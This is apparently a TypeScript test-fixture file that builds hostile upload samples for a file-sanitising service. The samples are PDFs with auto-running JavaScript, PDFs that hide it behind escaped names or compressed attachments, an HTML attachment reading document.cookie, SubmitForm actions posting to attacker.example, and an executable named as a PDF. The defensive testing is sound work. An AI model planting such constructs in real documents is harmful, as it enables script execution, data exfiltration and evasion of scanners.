import { type PDFDict, PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import sharp from 'sharp';

/**
 * Files for the upload tests (integration and end-to-end): real PDFs and images made on the spot,
 * and hostile ones — a PDF with JavaScript, one hiding it behind lower-case #xx name escapes, an
 * encrypted one, a JPEG carrying a GPS position, a program named like a PDF.
 */
export async function makePdf(lines: string[] = ['ISP bill, January 2003'], pages = 1): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  // Fixed dates: the same lines give the same bytes (the duplicate tests depend on it).
  document.setCreationDate(new Date('2003-02-01T00:00:00Z'));
  document.setModificationDate(new Date('2003-02-01T00:00:00Z'));
  for (let index = 0; index < pages; index++) {
    const page = document.addPage([595, 842]);
    lines.forEach((line, position) => page.drawText(line, { x: 72, y: 760 - position * 20, size: 14, font }));
  }
  return document.save();
}

export async function makePdfWithJavaScript(): Promise<Uint8Array> {
  const document = await PDFDocument.load(await makePdf(['Open me']));
  const action = document.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("hello")') });
  document.catalog.set(PDFName.of('OpenAction'), document.context.register(action));
  return document.save({ useObjectStreams: true });
}

/** Builds a PDF by hand, so the tests can write what no library would (escaped names, /Encrypt). */
export function rawPdf(objects: string[], trailerExtra = ''): Uint8Array {
  let body = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xrefAt = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  body += offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return new Uint8Array(Buffer.from(body, 'latin1'));
}

const PAGE_OBJECTS = [
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
];

/** `/S /#4a#61vaScript` — readers decode lower-case escapes too. */
export function makePdfWithEscapedJavaScript(): Uint8Array {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    PAGE_OBJECTS[1],
    PAGE_OBJECTS[2],
    '<< /Type /Action /S /#4a#61vaScript /#4a#53 (app.alert(1)) >>',
  ]);
}

export function makeEncryptedPdf(): Uint8Array {
  const hex32 = 'a'.repeat(64);
  return rawPdf(
    [...PAGE_OBJECTS, `<< /Filter /Standard /V 1 /R 2 /O <${hex32}> /U <${hex32}> /P -44 >>`],
    `/Encrypt 4 0 R /ID [<${'b'.repeat(32)}> <${'b'.repeat(32)}>] `,
  );
}

/** A phone photo as phones make them: EXIF with the camera, the time and a GPS position. */
export async function makeJpegWithGps(width = 640, height = 480): Promise<Uint8Array> {
  const buffer = await sharp({ create: { width, height, channels: 3, background: { r: 30, g: 120, b: 110 } } })
    .jpeg({ quality: 80 })
    .withExif({
      IFD0: { Make: 'Samsung', Model: 'SCH-X430', DateTime: '2003:01:25 15:10:00' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '37/1 33/1 59/1', GPSLongitudeRef: 'E', GPSLongitude: '126/1 58/1 40/1' },
    })
    .toBuffer();
  return new Uint8Array(buffer);
}

export async function makePng(width = 320, height = 200): Promise<Uint8Array> {
  return new Uint8Array(
    await sharp({ create: { width, height, channels: 4, background: { r: 240, g: 240, b: 240, alpha: 1 } } })
      .png()
      .toBuffer(),
  );
}

export async function makeWebp(width = 320, height = 200): Promise<Uint8Array> {
  return new Uint8Array(
    await sharp({ create: { width, height, channels: 3, background: { r: 10, g: 20, b: 30 } } })
      .webp()
      .toBuffer(),
  );
}

/** A Windows program (MZ header) someone named bill.pdf. */
export function makeExecutableNamedPdf(): Uint8Array {
  const bytes = new Uint8Array(4096);
  bytes.set([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff]);
  bytes.set(new TextEncoder().encode('This program cannot be run in DOS mode.'), 78);
  return bytes;
}

/** A small PDF that runs JavaScript when opened: the attachment a hostile outer PDF smuggles in. */
async function makeInnerScriptPdf(): Promise<Uint8Array> {
  return makePdfWithJavaScript();
}

/**
 * The PDF of issue 17, item 8: an ordinary-looking bill carrying, as attachments (compressed, so
 * no name of the inner file shows in the outer bytes), a PDF with JavaScript and an HTML page.
 */
export async function makePdfWithAttachments(): Promise<Uint8Array> {
  const document = await PDFDocument.load(await makePdf(['Bill with attachments']));
  await document.attach(await makeInnerScriptPdf(), 'invoice.pdf', { mimeType: 'application/pdf', description: 'inner' });
  await document.attach(new TextEncoder().encode('<html><script>alert(document.cookie)</script></html>'), 'open-me.html', {
    mimeType: 'text/html',
  });
  return document.save({ useObjectStreams: false });
}

/**
 * One page carrying every other active feature, built from pdf-lib's low-level objects: a
 * file-attachment annotation, links whose actions open other files (/GoToR, /GoToE), send or fetch
 * form data (/SubmitForm, /ImportData) or play media (/RichMedia), a RichMedia annotation, and
 * automatic /AA actions on the page and the catalog. One plain web link is there to be kept.
 */
export async function makePdfWithActions(): Promise<Uint8Array> {
  const document = await PDFDocument.load(await makePdf(['Bill with actions']));
  const { context } = document;
  const page = document.getPage(0);
  const rect = [72, 700, 300, 720];
  const fileSpec = context.obj({
    Type: 'Filespec',
    F: PDFString.of('payload.exe'),
    EF: { F: context.register(context.flateStream(new TextEncoder().encode('MZ payload'), { Type: 'EmbeddedFile' })) },
  });
  const link = (action: PDFDict) => context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, A: action }));
  const annotations = [
    context.register(context.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: rect, FS: fileSpec, Contents: PDFString.of('x') })),
    link(context.obj({ S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] })),
    link(context.obj({ S: 'GoToE', T: { R: 'C', N: PDFString.of('invoice.pdf') } })),
    link(context.obj({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://attacker.example/collect') } })),
    link(context.obj({ S: 'ImportData', F: PDFString.of('data.fdf') })),
    link(context.obj({ S: 'RichMedia', TA: [] })),
    context.register(context.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: rect, RichMediaContent: { Assets: {} } })),
    link(context.obj({ S: 'URI', URI: PDFString.of('https://www.example.org/bill') })),
  ];
  page.node.set(PDFName.of('Annots'), context.obj(annotations));
  page.node.set(PDFName.of('AA'), context.obj({ O: { S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] } }));
  document.catalog.set(PDFName.of('AA'), context.obj({ WC: { S: 'SubmitForm', F: PDFString.of('https://attacker.example/') } }));
  return document.save({ useObjectStreams: false });
}
